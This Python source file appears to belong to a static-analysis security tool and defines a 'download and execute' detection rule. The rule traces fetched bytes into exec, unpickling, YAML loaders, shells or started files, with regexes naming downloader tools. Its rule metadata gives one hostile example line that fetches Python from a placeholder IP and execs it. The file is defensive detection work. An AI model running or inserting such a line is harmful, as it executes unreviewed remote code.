"""Code that is fetched and run."""

from __future__ import annotations

import re
from collections.abc import Iterator

from antivenom.pycode.commands import is_shell, opens_shell
from antivenom.pycode.evaluate.values import taint_of, text_of
from antivenom.pycode.facts import Fact
from antivenom.pycode.rules.kit import (
    Case,
    Rule,
    Seen,
    command_text,
    commanding,
    is_installer,
    of_traits,
    origins,
    path_role,
    shown,
    taint_of_role,
    whence,
    where_of_url,
    words_of,
)  # fmt: skip
from antivenom.pycode.rules.paths import is_url
from antivenom.pycode.rules.started import how_used

_RUNS = {
    "execute": "runs it as Python",
    "unpickle": "unpickles it, which runs what it says",
    "unmarshal": "loads it as compiled Python",
    "import file": "runs it as Python",
    "load assembly": "loads it as a .NET assembly",
    "yaml": "loads it as YAML that can run code",
}


def check(case: Case) -> Iterator[Seen]:
    """Downloaded bytes that reach exec, a loader or a process; a downloader that feeds the interpreter."""
    if case.facts:
        yield from _by_facts(case)
    yield from _fed(case)


def _by_facts(case: Case) -> Iterator[Seen]:
    for fact in case.of(*_RUNS):
        sources = origins(
            taint_of_role(fact, "code", "data", "path"), "fetch", "download", "receive", "accept", "resolve", "connect"
        )
        if sources:
            named = next((one for one in sources if whence(case, one)), sources[0])
            yield _seen(case, named, fact, _RUNS[fact.kind])
        elif fact.kind == "execute":
            yield from _from_share(fact)
            yield from _from_downloader(fact)
    for fact in case.of("process"):
        sources = origins(commanding(fact), "fetch", "download")
        if sources and not fact.looped:
            yield _seen(case, sources[0], fact, "hands it to the system as a command")
    for fact, process, value in case.fed():
        sources = origins(taint_of(value), "fetch", "download")
        words = words_of(process)
        if sources and words and (opens_shell(words) is not None or _python(words)):
            yield _seen(case, sources[0], fact, f"feeds it to {words[0]}")
    yield from _written_then_run(case)
    yield from _shown_to_a_shell(case)
    yield from of_traits(case, "download_execute")


_DOWNLOADER = re.compile(r"\b(?:curl|wget|fetch|lynx|certutil|iwr|Invoke-WebRequest|nslookup|dig)\b", re.IGNORECASE)


def _from_downloader(fact: Fact) -> Iterator[Seen]:
    """Code that a command downloads."""
    for ran in origins(taint_of_role(fact, "code"), "process"):
        text = command_text(ran) or ""
        if _DOWNLOADER.search(text):
            yield Seen(88, f"It runs the output of {shown(text, 80)} as Python.", (ran, fact))


def _from_share(fact: Fact) -> Iterator[Seen]:
    """Code read from another host's share."""
    for opened in origins(taint_of_role(fact, "code"), "open"):
        path = path_role(opened)
        if path.startswith("\\\\"):
            yield Seen(84, f"It runs code from the share {path}.", (opened, fact))


def _seen(case: Case, source: Fact, fact: Fact, runs: str) -> Seen:
    url = whence(case, source)
    if is_installer(url):
        return Seen(30, f"It fetches the installer {url} and {runs}.", (source, fact))
    return Seen(90, f"It fetches code from {url or 'the network'} and {runs}.", (source, fact))


def _siblings(case: Case) -> list[list[str]]:
    """The other commands of the same line, where a shell runs them all."""
    found = case.found
    return [list(words) for words in found.siblings] if found is not None and found.kind != "embedded" else []


def _shown_to_a_shell(case: Case) -> Iterator[Seen]:
    """Python that prints what it fetched, beside a shell on the same line that reads it."""
    if not any(opens_shell(words) is not None for words in _siblings(case)):
        return
    for fact in case.of("show"):
        sources = origins(fact.taint, "fetch", "receive", "download")
        if sources:
            yield _seen(case, sources[0], fact, "prints it for a shell to run")


def _written_then_run(case: Case) -> Iterator[Seen]:
    """A download that lands in a file, and the file is started."""
    for write in case.of("download", "write", "copy stream"):
        sources = (
            [write]
            if write.kind == "download"
            else origins(taint_of_role(write, "data", "source"), "fetch", "receive", "download")
        )
        if not sources:
            continue
        path = path_role(write) or text_of(write.role("target")) or ""
        place = taint_of(write.owner) | {write} | taint_of_role(write, "path", "target")
        for words in _siblings(case):
            if _starts(words, path):
                yield _seen(case, sources[0], write, f"writes it to {path}, which the same line then runs")
                break
        for run in case.of("process", "import file", "library", "execute", "import path"):
            used = (
                ""
                if run is write
                else _used(run, path, place & frozenset(case.of("temporary", "download")), _later(case, run))
            )
            if used == "started":
                yield _seen(case, sources[0], run, f"writes it to {path or 'a file'} and starts that")
            elif used == "unpacked":
                seen = _seen(case, sources[0], run, f"writes it to {path or 'a file'} and starts what comes of that")
                yield seen._replace(score=min(seen.score, 66))
            elif used == "installed":
                seen = _seen(case, sources[0], run, f"writes it to {path or 'a file'} and installs that")
                yield seen._replace(score=min(seen.score, 45))


def _python(words: list[str]) -> bool:
    """An interpreter that reads its program from standard input."""
    return words[0].replace("\\", "/").rsplit("/", 1)[-1].startswith(("python", "pypy")) and all(
        word.startswith("-") for word in words[1:]
    )


_MOST_COMMANDS = 20
_STARTERS = frozenset({"chmod", "exec", "nohup", "setsid", "sudo", "start", "open", "source", "."})


def _starts(words: list[str], path: str) -> bool:
    """Whether a command of the line starts the file, or makes it one that can be started."""
    if len(path) < 4 or not words:
        return False
    first = words[0]
    named = [word for word in words[:4] if word in (path, f"./{path}")]
    return bool(named) and (first in named or is_shell(first) or first in _STARTERS or first.startswith("python"))


def _later(case: Case, run: Fact) -> str:
    """The commands that the program runs after this one."""
    texts = (command_text(one) or "" for one in case.of("process")[:_MOST_COMMANDS] if one.number > run.number)
    return "".join(f" ; {text}" for text in texts)


def _used(run: Fact, path: str, place: frozenset[Fact], later: str) -> str:
    """Whether a fact starts a file, installs it, or neither."""
    text = command_text(run) if run.kind == "process" else None
    if text is not None:
        return how_used(text, path, bool(run.taint & place), later)
    return "started" if _loads(run, path, place) else ""


def _loads(run: Fact, path: str, place: frozenset[Fact]) -> bool:
    if run.taint & place:
        return True
    text = "" if run.kind == "process" else path_role(run)
    name = path.replace("\\", "/").rsplit("/", 1)[-1]
    if not text or not name:
        return False
    return (path in text and len(path) > 3) if "/" in path or "\\" in path else (len(name) > 2 and name in text)


def _fed(case: Case) -> Iterator[Seen]:
    """A downloader on the command line feeds the interpreter."""
    found = case.found
    if found is not None and found.kind == "install" and "run" in found.argv[:3]:
        for word in found.argv[1:]:
            if is_url(word.split("git+", 1)[-1]):
                yield Seen(60, f"It fetches a package or script from {word} and runs it.")
    if found is None or not found.remote or found.kind == "install":
        return
    remote = found.remote
    how = {"stdin": "is piped into the interpreter", "script": "is run as a script"}.get(found.kind, "is run")
    if is_installer(remote):
        yield Seen(30, f"The installer {remote} {how}.")
    elif _is_named(case, remote):
        yield Seen(70, f"Code from {remote} {how} without anyone looking at it.")
    elif is_url(remote) or found.kind != "script":
        yield Seen(88, f"Code from {remote} {how} without anyone looking at it.")
    else:
        yield Seen(80, f"Code from {remote} {how}.")


_UNCHECKED = re.compile(r"--insecure|--no-check-certificate|-[A-Za-z]*k[A-Za-z]*|--verify=no|--proxy-insecure")
_NAME = re.compile(r"(?:[a-z0-9_-]+\.)+[a-z][a-z0-9-]+", re.IGNORECASE)


def _is_named(case: Case, remote: str) -> bool:
    """Whether code is fetched from one host by name, over a connection whose certificate is checked."""
    host = where_of_url(remote).host
    if not remote.lower().startswith("https://") or not _NAME.fullmatch(host):
        return False
    fetches = [words for words in _siblings(case) if any(remote in word for word in words)]
    return bool(fetches) and not any(_unchecked(words) for words in fetches)


def _unchecked(words: list[str]) -> bool:
    """Whether a downloader is told not to check the certificate, or is given a second URL or a proxy of its own."""
    many = sum("://" in word for word in words) > 1
    return many or any(_UNCHECKED.fullmatch(word) is not None for word in words[1:])


RULE = Rule(
    id="download_execute",
    title="Download and execute",
    attack=("T1059.006", "T1105"),
    why="Fetching code and running it unseen is how stagers bring the real payload, and leaves nothing on disk.",
    bad="import urllib.request; exec(urllib.request.urlopen('http://192.0.2.10/p.py').read())",
    good="json.loads(urllib.request.urlopen('http://localhost:8080/health').read())",
    references=("https://attack.mitre.org/techniques/T1105/",),
    wakes=frozenset({*_RUNS, "download", "write", "copy stream", "process", "show",
                     "found:stdin", "found:script", "found:inline", "found:module", "found:interactive", "found:install"}),
    check=check,
)  # fmt: skip
